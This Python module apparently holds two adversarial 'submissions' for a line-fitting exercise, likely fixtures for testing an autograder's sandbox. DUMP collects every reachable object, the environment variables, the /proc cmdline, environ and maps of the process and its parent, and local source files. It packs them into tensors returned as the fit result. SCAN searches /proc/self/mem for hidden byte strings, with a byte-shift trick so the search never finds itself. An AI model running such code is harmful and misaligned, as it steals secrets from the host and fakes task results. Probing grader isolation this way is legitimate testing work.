"""Submissions for ex4 that hand out what they find around them instead of fitting a line."""

DUMP = '''
import gc, json, os, struct, sys, zlib
import numpy as np
import torch

OWN = "this text stands in the submission"


def reached():
    """Everything that Python can lead to from here."""
    gc.unfreeze()
    todo, seen = [*gc.get_objects(), *sys.modules.values(), sys._current_frames()], set()
    frame = sys._getframe()
    while frame is not None:
        todo += [frame, dict(frame.f_locals), dict(frame.f_globals)]
        frame = frame.f_back
    while todo:
        thing = todo.pop()
        if id(thing) in seen or thing is seen or thing is todo:
            continue
        seen.add(id(thing))
        yield thing
        todo += gc.get_referents(thing)


def words_of(thing):
    if isinstance(thing, str):
        return thing.encode("utf-8", "replace")
    if isinstance(thing, (bytes, bytearray)):
        return bytes(thing)
    if type(thing) is float:
        return f"<{thing!r}>".encode()
    if isinstance(thing, np.ndarray) and thing.dtype.kind in "fiub":
        return thing.tobytes()
    if isinstance(thing, torch.Tensor):
        return thing.detach().numpy().tobytes()
    return b""


def around():
    """What the system says of this process and of the one that started it."""
    yield repr((sys.argv, dict(os.environ), os.getcwd(), os.listdir("."))).encode()
    for pid in ("self", str(os.getppid())):
        for name in ("cmdline", "environ", "maps"):
            with open(f"/proc/{pid}/{name}", "rb") as file:
                yield file.read()
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                yield os.readlink(f"/proc/{pid}/fd/{fd}").encode()
            except OSError:
                pass
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if "site-packages" not in path and path.endswith(".py") and os.path.exists(path):
            with open(path, "rb") as file:
                yield file.read()


def fit(X, y, w0, b0, lr, steps):
    kept = {words_of(thing) for thing in reached()} | set(around())
    packed = zlib.compress(b"\\n".join(kept), 1)
    packed = struct.pack("<q", len(packed)) + packed + bytes(-len(packed) % 8)
    numbers = torch.from_numpy(np.frombuffer(packed, dtype=np.int64).copy())
    return X, y, list(numbers.split(1 << 20))
'''

SCAN = '''
import numpy as np

OWN = "this text stands in the submission"
SOUGHT = [bytes.fromhex(word) for word in "{sought}".split()]
PIECE = 1 << 22


def fit(X, y, w0, b0, lr, steps):
    """Search this process's memory.  Every byte is raised by one, so that what is sought is
    found where it was, and neither here nor in a copy that the search itself has made."""
    found, longest = [0] * len(SOUGHT), max(map(len, SOUGHT))
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for span, rights, *_ in regions:
            first, last = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or first >= 1 << 63:
                continue
            for start in range(first, last, PIECE):
                memory.seek(start)
                piece = np.frombuffer(memory.read(min(PIECE + longest, last - start)), np.uint8)
                raised = (piece + np.uint8(1)).tobytes()
                for n, word in enumerate(SOUGHT):
                    found[n] += raised.count(word)
    return X, y, [float(number) for number in found]
'''
